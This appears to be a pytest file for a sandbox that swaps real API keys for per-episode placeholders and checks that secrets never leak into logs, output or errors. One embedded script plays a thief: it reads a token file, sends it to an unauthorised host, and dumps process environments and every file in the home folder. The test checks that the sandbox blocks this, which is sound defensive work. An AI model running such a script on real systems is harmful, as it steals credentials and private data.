"""Secrets that only the door has: read with care, and found in no byte of cell, ledger, state or error. In real cells."""

from __future__ import annotations

import base64
import http.server
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from vigiles.cell.spec import CellSpec
from vigiles.ledger.query import LedgerReader
from vigiles.model.coordinates import Coordinates
from vigiles.model.errors import ControlUnavailable
from vigiles.ruleset.credential import Credential
from vigiles.ruleset.profile import Profile
from vigiles.runtime.outfitting import outfit
from vigiles.runtime.outfitting.credentials import Held, hold

WHERE = Coordinates(run="run-1", episode="ep-1")
SECRET = "sk-r3al/Secret+0123456789"
API = Credential(name="api", hosts=["api.example:443"], variable="API_KEY", prefix="sk-", from_variable="REAL_KEY")


@pytest.fixture
def spec(workdir: Path) -> CellSpec:
    return outfit.cell_spec(Profile(name="p"), "run-1", "ep-1", workdir, extra_read=[])


def _held(spec: CellSpec, one: Credential, **environ: str) -> Held:
    held = hold([one], spec, WHERE, environ)
    assert held is not None
    return held


def test_each_episode_has_its_own_placeholder(spec: CellSpec) -> None:
    both = [_held(spec, API, REAL_KEY=SECRET) for _ in range(2)]
    first, second = (held.environment["API_KEY"] for held in both)
    assert first != second
    assert first.startswith("sk-")
    assert SECRET not in repr(both)
    assert hold([], spec, WHERE, {}) is None


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (None, "is not set"),
        ("", "is not set"),
        *((bad, "no secret") for bad in ("short", "two\nlines of it", "\u00e9" * 20)),
    ],
)
def test_a_secret_that_is_none_stops_the_start(spec: CellSpec, value: str | None, said: str) -> None:
    with pytest.raises(ControlUnavailable, match=said) as raised:
        hold([API], spec, WHERE, {} if value is None else {"REAL_KEY": value})
    assert raised.value.remedy
    assert value is None or not value or value not in f"{raised.value} {raised.value.remedy}"


def test_files_are_read_only_where_nobody_else_can(
    spec: CellSpec, short_folder: Callable[[str], Path], workdir: Path
) -> None:
    path = short_folder("k") / "key"
    one = Credential(name="api", hosts=[], variable="", file=".config/tool/token", from_file=str(path))
    with pytest.raises(ControlUnavailable, match="No such file"):
        _held(spec, one)
    path.write_text(SECRET + "\n")
    path.chmod(0o640)
    with pytest.raises(ControlUnavailable, match="open to others") as raised:
        _held(spec, one)
    assert "chmod 600" in raised.value.remedy
    path.chmod(0o600)
    held = _held(spec, one)
    assert (held.entrusted[0].secret, list(held.files)) == (SECRET, [".config/tool/token"])
    inside = workdir / "key"
    inside.symlink_to(path)
    _held(spec, Credential(name="api", from_file=str(inside)))  # a link is where it leads
    inside.unlink()
    inside.write_text(SECRET)
    inside.chmod(0o600)
    with pytest.raises(ControlUnavailable, match="the cell would see"):
        _held(spec, Credential(name="api", from_file=str(inside)))


class _Echo(http.server.BaseHTTPRequestHandler):
    got: list[str] = []

    def do_GET(self) -> None:
        said = self.headers.get("Authorization", "")
        self.got.append(said)
        body = f"{said} {base64.b64encode(said.encode()).decode()}".encode()
        self.send_response(200)
        self.send_header("X-Echo", said)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def echo() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
    thread.join()


ASKS = """
import glob, http.client, os, sys
key = open(os.path.expanduser("~/.config/tool/token")).read().strip()
assert key == os.environ["API_KEY"]
to = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
for host in {hosts}:
    to = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
    to.request("GET", f"http://{{host}}:{port}/", headers={{"Authorization": "Bearer " + key}})
    answer = to.getresponse()
    print(answer.status, answer.headers, answer.read())
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        sys.stdout.write(repr(open(name, "rb").read()))
    except OSError:
        pass
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        sys.stdout.write(repr(open(os.path.join(folder, name), "rb").read()))
"""
FORMS = (SECRET.encode(), base64.b64encode(SECRET.encode())[:-4], SECRET.encode().hex().encode())


@pytest.mark.cell
@pytest.mark.parametrize(("hosts", "rules"), [(["api.example"], []), (["other.example"], ["credentials.elsewhere"])])
def test_an_honest_use_and_a_thief(
    inside: Callable[..., Any], make_profile: Callable[..., Path], python: list[str], echo: int, shared_home: Path,
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], hosts: list[str], rules: list[str],
) -> None:  # fmt: skip
    monkeypatch.setenv("REAL_KEY", SECRET)
    names = [f"{name}.example:{echo}" for name in ("api", "other")]
    profile = make_profile(
        f'[egress]\ntls = "pass"\nhosts = {names}\n[egress.pins]\n'.replace("'", '"')
        + "".join(f'"{name}" = "127.0.0.1"\n' for name in names)
        + f'[[egress.credentials]]\nname = "api"\nhosts = ["{names[0]}"]\nvariable = "API_KEY"\n'
        + 'file = ".config/tool/token"\nprefix = "sk-"\nfrom_variable = "REAL_KEY"\nclear = true\n[responses]\nhigh = []\n'
    )

    async def body(episode: Any) -> Any:
        outcome = await episode.call([*python, ASKS.format(hosts=hosts, port=echo)])
        await episode.settle(0.5)
        return episode.coordinates.episode, outcome, sorted({finding.rule for finding in episode.findings()})

    before = len(_Echo.got)
    name, outcome, found = inside(body, profile=profile)
    assert outcome.exit_code == 0, outcome.stderr
    assert found == rules
    if rules:
        assert _Echo.got[before:] == []
        assert b"403" in outcome.stdout
    else:
        assert _Echo.got[before:] == [f"Bearer {SECRET}"]
        assert b"200" in outcome.stdout
    with LedgerReader(shared_home) as reader:
        records = [record for _, record in reader.records(episode=name)]
    seen = repr(records).encode() + outcome.stdout + outcome.stderr + "".join(capfd.readouterr()).encode()
    for folder, _, files in os.walk(shared_home):
        for file in files:
            path = Path(folder, file)
            if path.is_file():
                seen += path.read_bytes()
    hexed = "".join(getattr(record, "first_in", "") + getattr(record, "first_out", "") for record in records)
    for form in FORMS:
        assert form not in seen
        assert form.hex() not in hexed


@pytest.mark.cell
def test_a_missing_secret_stops_the_start_and_says_so(
    inside: Callable[..., Any], make_profile: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("REAL_KEY", raising=False)
    profile = make_profile(
        '[egress]\nhosts = ["api.example:443"]\ntls = "terminate"\n[[egress.credentials]]\nname = "api"\n'
        'hosts = ["api.example:443"]\nvariable = "API_KEY"\nfrom_variable = "REAL_KEY"\n'
    )

    async def body(_: Any) -> None:
        raise AssertionError("it began")

    with pytest.raises(ControlUnavailable, match="REAL_KEY is not set") as raised:
        inside(body, profile=profile)
    assert "REAL_KEY" in raised.value.remedy
